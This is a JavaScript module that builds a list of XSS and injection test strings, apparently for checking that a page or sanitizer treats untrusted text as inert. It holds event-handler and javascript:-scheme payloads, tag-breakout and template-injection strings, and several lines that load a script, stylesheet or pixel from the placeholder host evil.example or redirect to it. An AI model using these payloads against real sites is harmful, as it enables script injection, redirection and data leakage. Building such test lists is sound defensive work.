/** More than two hundred texts that would run, load or mislead if any page took them for more than text. */

const call = 'reportFault("xss")';
const tags = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'object', 'embed', 'input', 'details', 'marquee', 'style', 'link', 'script', 'math', 'form', 'select', 'textarea', 'keygen', 'isindex', 'frameset', 'table', 'button', 'a'];
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onpageshow', 'onanimationstart'];
const attributes = 'src=x href=x autofocus open tabindex=1';
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', ' javascript:', '\u0001javascript:'];

export const payloads = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${attributes} ${handler}='${call}'>`)),
  ...schemes.flatMap((scheme) => [`<a href="${scheme}${call}">x</a>`, `[x](${scheme}${call})`, `${scheme}${call}`]),
  `<script>${call}</script>`, `<ScRiPt>${call}</ScRiPt>`, `<scr<script>ipt>${call}</script>`, `<script src="https://evil.example/x.js"></script>`, `"><script>${call}</script>`, `'><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `</style><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`,
  `<svg><script>${call}</script></svg>`, `<svg><animate onbegin='${call}' attributeName=x dur=1s>`, `<svg><set onbegin='${call}'>`, `<math><mtext><img src=x onerror='${call}'></mtext></math>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`, `<iframe src="javascript:parent.${call}">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`, `<img src="https://evil.example/pixel.gif">`, `![x](https://evil.example/pixel.gif)`, `<form action="https://evil.example/"><button>x</button></form>`,
  `<template><img src=x onerror='${call}'></template>`, `<noscript><p title="</noscript><img src=x onerror='${call}'>">`, `<img src=x onerror=${call}//`, `<img """><script>${call}</script>">`,
  '{{constructor.constructor("reportFault(1)")()}}', '${reportFault("xss")}', '#{reportFault("xss")}', '<%= reportFault("xss") %>', '`-reportFault("xss")-`', "';reportFault('xss')//", '";reportFault("xss")//', '\\";reportFault("xss")//',
  '__proto__', 'constructor', '[object Object]', '\u202Egnp.exe', '\u2066hidden\u2069', '\u0000', '\uFEFF<b>x</b>', '＜script＞reportFault("xss")＜/script＞', '%3Cscript%3EreportFault("xss")%3C/script%3E', '&lt;script&gt;reportFault("xss")&lt;/script&gt;', '<!--', '<![CDATA[', '\ud800', '<xss id=x tabindex=1 onfocus=reportFault("xss")>',
];
